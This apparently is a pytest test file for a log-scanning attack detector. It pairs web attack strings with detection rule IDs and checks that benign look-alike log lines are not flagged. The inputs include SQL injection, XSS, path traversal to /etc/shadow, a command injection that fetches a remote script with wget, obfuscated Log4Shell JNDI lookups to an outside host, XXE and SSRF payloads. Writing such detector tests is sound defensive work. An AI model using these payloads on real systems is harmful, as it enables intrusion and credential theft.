"""Attacks in log text are found through their disguises; what merely speaks of them is not."""

import time

import pytest

from bartizan.detect.logs.text_checks import prepare

READY = prepare()


def found(text: str) -> list[str]:
    return [hit.name for hit in READY.look([text])]


@pytest.mark.parametrize(
    ("check", "text"),
    [
        ("LOG-101", "q=1)) UNION/**/SELECT/**/NULL,NULL,NULL-- -"),
        ("LOG-101", "id=7'+AND+SLEEP(5)--+"),
        ("LOG-101", "id=7%2527%2520or%2520%25271%2527%253D%25271"),
        ("LOG-101", "name=x'; DROP TABLE orders--"),
        ("LOG-101", "id=1 and extractvalue(1,concat(0x5c,version()))"),
        ("LOG-101", "id=1;waitfor delay '0:0:9'--"),
        ("LOG-102", 'name="><svg/onload=alert(1)>'),
        ("LOG-102", "bio=&lt;img src=x onerror=alert(1)&gt;"),
        ("LOG-102", "link=javascript:alert(document.cookie)"),
        ("LOG-103", "file=..%2f..%2f..%2fetc%2fpasswd"),
        ("LOG-103", "GET /a?f=....//....//etc/shadow"),
        ("LOG-103", "page=php://filter/convert.base64-encode/resource=index"),
        ("LOG-104", "host=8.8.8.8;wget http://203.0.113.9/x.sh"),
        ("LOG-104", "name=$(whoami)"),
        ("LOG-105", "subject=${7*7}"),
        ("LOG-105", "t={{''.__class__.__mro__[1].__subclasses__()}}"),
        ("LOG-106", "ua=${jndi:rmi://203.0.113.9/x}"),
        ("LOG-106", "ua=${${env:A:-j}ndi${env:A:-:}${env:A:-l}dap${env:A:-:}//203.0.113.9/a}"),
        ("LOG-106", "ua=${${upper:j}${lower:N}${::-d}i:dns://203.0.113.9}"),
        ("LOG-107", "<!DOCTYPE a [<!ENTITY % x SYSTEM 'http://203.0.113.9/e.dtd'>%x;]>"),
        ("LOG-108", "user=admin)(|(password=*"),
        ("LOG-108", "GET /login?user[$gt]=&pass[$gt]="),
        ("LOG-109", "GET /img?src=http%3a%2f%2f169.254.169.254%2flatest%2f"),
        ("LOG-109", "GET /img?src=http://2852039166/latest/"),
        ("LOG-121", "user=bob%0A2026-11-25T10:00:00Z INFO admin signed in"),
        ("LOG-121", "next=/a%0d%0aLocation:%20https://evil.example"),
        ("LOG-122", "user=bob\x1b[1A\x1b[2Kall is well"),
        ("LOG-123", "opened \u202egpj.exe"),
    ],
)  # fmt: skip
def test_is_found(check: str, text: str) -> None:
    assert check in found(f"INFO request {text}") or check in found(text)


@pytest.mark.parametrize(
    "text",
    [
        "select u.id, u.name from users u where u.name = 'bob' and u.role = 'admin' order by 2",
        "SELECT a FROM b WHERE c = 1 UNION ALL SELECT d FROM e",
        "insert into t values (1, 'a'); insert into t values (2, 'b');",
        "Retry 5 and timeout=30 or limit=10",
        "option 'verbose' and 'debug' are on",
        "Hibernate: select 1 from dual where 1=1",
        "sleep(5) before next attempt; script finished",
        "webpack ../../../node_modules/react/index.js 12 KiB",
        "${project.version} and {{ user.name }} are placeholders; 3*4 tiles",
        "Exception in thread main java.lang.IllegalStateException: null (and 3 more)",
        "LDAP filter (&(objectClass=user)(|(uid=ann)(mail=ann@example.org)))",
        '{"query": {"age": {"$gt": 20}}, "sort": [["age", -1]]}',
        "GET http://169.254.169.254/latest/meta-data/ by agent",
        "running: cd /srv; cat /etc/hosts | wc -l",
        '<html><body onload="init()"><script>start()</script></body></html>',
        "session opened for user root by (uid=0)",
        "\x1b[1;31mERROR\x1b[0m something broke",
        "first line%0asecond line",
    ],
)
def test_ordinary_text_is_not(text: str) -> None:
    assert found(text) == []


def test_a_hostile_text_takes_no_longer_than_an_ordinary_one() -> None:
    hostile = ["'" * 8_000, "${" * 4_000, "(" * 8_000, "../" * 2_700, "%25" * 2_700, "=" * 8_000,
               "password=" * 900, "<a " * 2_700, "/**/" * 2_000, "0x2e" * 2_000]  # fmt: skip
    READY.look(hostile[:1])
    started = time.process_time()
    READY.look(hostile)
    assert time.process_time() - started < 5
